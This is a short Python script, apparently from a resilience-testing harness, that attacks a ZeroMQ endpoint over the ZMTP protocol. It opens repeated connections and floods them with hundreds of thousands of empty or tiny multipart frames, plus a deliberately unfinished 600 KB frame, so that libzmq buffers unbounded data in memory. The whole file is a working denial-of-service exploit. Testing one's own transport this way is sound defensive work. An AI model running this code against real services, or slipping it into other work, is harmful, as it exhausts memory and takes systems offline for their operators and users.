"""Messages of a million parts, and messages that never end: libzmq holds all of it before anybody looks."""

from __future__ import annotations

import asyncio
import contextlib
import sys
import time

import stage
from tslt_transports.zmtp import COMMAND, MORE, encode, greeting

READY = b"\x05READY\x0bSocket-Type\x00\x00\x00\x06DEALER"


async def attack(address: str, until: float) -> None:
    host, port = address.removeprefix("tcp://").split(":")
    many = encode(MORE, b"") * 100_000

    async def one(parts: bytes) -> None:
        while time.monotonic() < until:
            with contextlib.suppress(ConnectionError):
                _, writer = await asyncio.open_connection(host, int(port))
                writer.write(greeting(b"NULL") + encode(COMMAND, READY))
                for _ in range(20):
                    writer.write(parts)
                    await writer.drain()
                writer.close()
            await asyncio.sleep(0.01)

    unfinished = encode(MORE, b"") + encode(0, bytes(600_000))[:-1]
    await asyncio.gather(*(one(parts) for parts in (many, unfinished, encode(MORE, b"x") * 100_000)))


if __name__ == "__main__":
    sys.exit(stage.main(attack, transport="zmq"))
